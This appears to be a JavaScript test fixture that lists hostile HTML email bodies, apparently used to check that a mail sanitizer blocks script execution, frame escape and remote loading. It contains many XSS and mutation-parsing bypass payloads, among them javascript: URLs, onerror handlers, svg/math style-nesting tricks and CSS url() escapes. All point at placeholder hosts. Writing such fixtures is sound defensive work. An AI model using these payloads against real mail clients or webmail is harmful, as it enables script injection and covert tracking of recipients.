// HTML as mails bring it that tries to run something, to leave its frame, or to have
// a browser look up, connect to or load from another host. URL stands for one of that
// host, and HOST for it without the scheme. Each is the body of a mail of its own, as
// one that is not closed hides what comes after it.
const links = ["preconnect", "dns-prefetch", "prefetch", "preload", "modulepreload", "prerender", "stylesheet", "alternate stylesheet", "icon", "manifest", "next", "search",
  "apple-touch-icon", "import", "expect", "compression-dictionary", "payment-method-manifest", "preconnect stylesheet", "PRECONNECT"];
const hints = `<link rel=preconnect href=URL><link rel=dns-prefetch href=HOST><link rel=stylesheet href=URL/s>`;

export const hostile = [
  ...links.map((rel) => `<link rel="${rel}" href="URL/link" as=image crossorigin>`),
  // What the parser of browsers reads in another way than it seems.
  `<svg><style><<p><<link rel=preconnect href=URL><<link rel=dns-prefetch href=HOST></style></svg>`,
  `<svg><style>${hints}</style></svg>`, `<svg><title>${hints}</title></svg>`, `<svg><desc>${hints}</desc></svg>`, `<svg><script>${hints}</script></svg>`,
  `<svg><textarea>${hints}</textarea></svg>`, `<svg><noscript>${hints}</noscript></svg>`, `<svg><foreignObject>${hints}<iframe src=URL></iframe></foreignObject></svg>`,
  `<svg><![CDATA[>${hints}]]></svg>`, `<math><style>${hints}</style></math>`, `<math><mtext><style>${hints}</style></mtext></math>`,
  `<math><annotation-xml encoding="text/html">${hints}</annotation-xml></math>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=URL/x&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=URL/a onerror=parent.pwned=1>`, `<svg></p><style><a id="</style>${hints}">`,
  `<noscript><p title="</noscript>${hints}">`, `<noscript>${hints}</noscript>`, `<select><style></select>${hints}</style></select>`, `<select><template>${hints}</template></select>`,
  `<template>${hints}</template>`, `<div><template shadowrootmode=open>${hints}</template></div>`, `<div><template shadowroot=open>${hints}</template></div>`,
  `<table><caption><svg><foreignObject><style></table>${hints}`, `<style><!--</style>${hints}-->`, `<!--><img src=URL/comment> -->${hints}<!-- --!>${hints}`, `<!-- -- > ${hints}`,
  `<title>${hints}</title><textarea>${hints}</textarea>`, `<xmp>${hints}</xmp>`, `<noembed>${hints}</noembed>`, `<noframes>${hints}</noframes>`, `<plaintext>${hints}`, `<listing>${hints}</listing>`,
  `<iframe>${hints}</iframe>`, `<scr<script>ipt>${hints}</script>`, `<<link rel=preconnect href=URL>`, `<x/link rel=preconnect href=URL><link/rel=preconnect/href=URL>`,
  `<img alt="<x" title='/>${hints}'>`, `<a href='x"${hints}'>a</a>`, `<p title=a${"`"}>${hints}`, `<${"a".repeat(3000)}>${hints}`, `${"<div>".repeat(600)}${hints}`, `${"<b>".repeat(1000)}<p>${hints}`,
  `<head>${hints}</head><body>${hints}</body></html>${hints}`, `<frameset><frame src=URL><frame src="javascript:parent.pwned=1"></frameset>`, `<?xml-stylesheet href="URL"?>${hints}`,
  `<!DOCTYPE html SYSTEM "URL/dtd" [<!ENTITY a SYSTEM "URL/entity">]>&a;`, `<html manifest=URL/manifest xmlns:x="URL"><x:link rel=preconnect href=URL>`, `\0<link\0 rel=preconnect href=URL><li\0nk rel=preconnect href=URL>`,
  // What reloads, navigates or opens.
  `<meta http-equiv=refresh content="0;url=URL/refresh">`, `<META HTTP-EQUIV=" Refresh " CONTENT="0, URL/refresh">`, `<meta http-equiv=Link content="<URL>; rel=preconnect">`,
  `<meta http-equiv=x-dns-prefetch-control content=on><a href="URL">a</a>`, `<meta http-equiv=Content-Security-Policy content="default-src *; report-uri URL/csp">`, `<meta http-equiv=origin-trial content=x><meta name=referrer content=unsafe-url><a href="URL">a</a>`,
  `<base href="URL/base/"><img src=x><link rel=stylesheet href=y><a href=z>a</a>`, `<base target=_top><a href="URL">a</a>`, `<iframe src=URL></iframe>`, `<iframe srcdoc="&lt;link rel=preconnect href=URL&gt;"></iframe>`,
  `<iframe src="javascript:parent.pwned=1"></iframe>`, `<iframe src="data:text/html,<link rel=preconnect href=URL>"></iframe>`, `<fencedframe src=URL></fencedframe><portal src=URL></portal><webview src=URL></webview>`,
  `<object data=URL></object>`, `<object data="data:text/html,<link rel=preconnect href=URL>" type=text/html></object>`, `<embed src=URL>`, `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.pwned=1'/>">`, `<applet code=x codebase=URL archive=URL/a.jar></applet>`,
  `<object><param name=movie value=URL><embed src=URL></object>`, `<form action=URL id=f><input autofocus onfocus="parent.pwned=1" formaction=URL><button type=submit form=f formaction=URL>b</button></form><input form=f type=image src=URL>`,
  `<a href="URL" ping="URL/ping" attributionsrc="URL/a" target=_top autofocus>a</a>`, `<a href="URL" rel="prerender prefetch preconnect opener">a</a><map name=m><area href="URL" ping=URL shape=default></map><img usemap=#m>`,
  `<a href="javascript:parent.pwned=1">a</a><a href="java&#10;script:parent.pwned=1">b</a><a href="&#1;javascript:parent.pwned=1">c</a>`, `<button popovertarget=p command=show-popover commandfor=p>b</button><div id=p popover=auto onbeforetoggle="parent.pwned=1">${hints}</div>`,
  `<dialog open>${hints}</dialog><details open ontoggle="parent.pwned=1"><summary>a</summary></details>`, `<marquee onstart="parent.pwned=1" behavior=URL>a</marquee><isindex action=URL prompt=a>`,
  // Scripts and rules for them.
  `<script>parent.pwned=1;fetch("URL")</script><script src=URL></script><script type=module>import "URL"</script>`, `<script type=speculationrules>{"prefetch":[{"urls":["URL"]}],"prerender":[{"urls":["URL"]}]}</script>`,
  `<script type=importmap>{"imports":{"a":"URL"}}</script><script for=window event=onload src=URL></script>`, `<body onload="parent.pwned=1" background=URL onpageshow="location='URL'">`, `<img src=x onerror="parent.pwned=1;this.src='URL'"><p style="animation:a" onanimationstart="parent.pwned=1">`,
  // Images, sound and pictures.
  `<img src=URL><img src=HOST><img src="\\\\HOST"><img lowsrc=URL dynsrc=URL longdesc=URL>`, `<img srcset="URL 1x, URL 2x" sizes=1px><picture><source srcset="URL"><img></picture>`, `<img src="ht&Tab;tp&#58;URL"><img src=" URL "><image src=URL>`,
  `<img attributionsrc=URL src="data:,"><img loading=eager fetchpriority=high src=URL>`, `<input type=image src=URL><table background=URL><tr background=URL><td background=URL>a</table>`, `<video src=URL poster=URL autoplay><source src=URL><track src=URL default></video><audio src=URL autoplay preload=auto></audio><bgsound src=URL>`,
  `<svg><image href=URL /><image xlink:href=URL /><use href="URL#a"/><feImage href=URL /><script href=URL /></svg>`, `<svg><a xlink:href="javascript:parent.pwned=1"><text>a</text></a><image><animate attributeName=href to=URL /><set attributeName=href to=URL /></image></svg>`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='URL'/><script>parent.pwned=1</script></svg>">`, `<math href=URL><mi xlink:href="URL">a</mi><maction actiontype="statusline#URL" xlink:href="javascript:parent.pwned=1">b</maction></math>`,
  // Style sheets.
  `<style>@import "URL"; @import url(URL); @import url("URL") screen; @import/**/'URL'</style>`, `<style>@\\69mport "URL"; @\\000069 mport url(URL);@import\tURL;@import "URL" layer(a) supports(b:c)</style>`,
  `<style>@namespace url(URL); @charset "a"; @import "URL";</style>`, `<style>@font-face{font-family:f;src:url(URL)}@font-face{font-family:g;src:src("URL")}*{font-family:f,g}</style>text`,
  `<style>*{background:url(URL);list-style:url(URL);cursor:url(URL),auto;content:url(URL)}</style>text`, `<style>*{background:u\\72l(URL);border-image:\\75 rl("URL") 1;mask:URL(URL);-webkit-mask-image:uRl( 'URL' )}</style>text`,
  `<style>*{background-image:image-set("URL" 1x);list-style-image:-webkit-image-set(url(URL) 1x);content:image("URL")}</style>text`, `<style>*{background-image:image-set('URL' type('image/png'));border-image-source:cross-fade(url(URL),url(URL))}</style>text`,
  `<style>:root{--a:"URL";--b:url(URL);--c:image-set("URL" 1x)}*{background:image-set(var(--a) 1x),var(--b),var(--c);content:src(var(--a))}</style>text`, `<style>@property --u{syntax:"<url>";inherits:true;initial-value:url(URL)}*{background:var(--u)}</style>text`,
  `<style>*{background:image-set(attr(data-u) 1x);content:attr(data-u type(<url>))}</style><p data-u="URL">text`, `<style>*{shape-outside:url(URL);clip-path:url(URL#a);filter:url(URL#a);offset-path:url(URL#a);fill:url(URL#a);marker:url(URL#a)}</style>text`,
  `<style>p::before{content:url(URL)}p:hover,p:first-letter{background:url(URL)}li::marker{content:url(URL)}::selection{background:url(URL)}</style><p>text<ul><li>a</ul>`, `<style>@media all{@supports (a:b) or (color:red){@layer x{*{background:url(URL)}}}}</style>text`,
  `<style>*{background:url(URL</style>text`, `<style>*{a:'</style><style>';background:url(URL)}</style>text`, `<style>*{a:url("x\n);background:url(URL)}</style>text`, `<style>/*</style><style>*/*{background:url(URL)}</style>text`,
  `<style><!-- *{background:url(URL)} --></style>text`, `<style>*{background:ur/**/l(URL);behavior:url(URL);-moz-binding:url(URL);b:expression(parent.pwned=1)}</style>text`, `<style media="a);}*{background:url(URL)}">*{}</style>text`,
  `<style>@keyframes a{from{background:url(URL)}to{background:url(URL)}}*{animation:a 1s}@page{background:url(URL)}@counter-style c{system:cyclic;symbols:url(URL)}li{list-style:c}</style><li>a`, `<style>@document url(URL){*{background:url(URL)}}@view-transition{navigation:auto}@function --f(){result:url(URL)}*{background:--f()}</style>text`,
  `<p style="background:url(URL)">a<p style="background:u\\72l(URL);list-style:url( URL )">b<p style='background:url(&quot;URL&quot;)'>c`, `<p style="background:image-set('URL' 1x);border-image:-webkit-image-set('URL' 1x)">a<p style="}*{background:url(URL)}">b`, `<p style="a:'&#10;;background:url(URL)">a<p style="/*;background:url(URL)*/;background:url(URL)">b<p style="background:url(HOST)">c`,
];
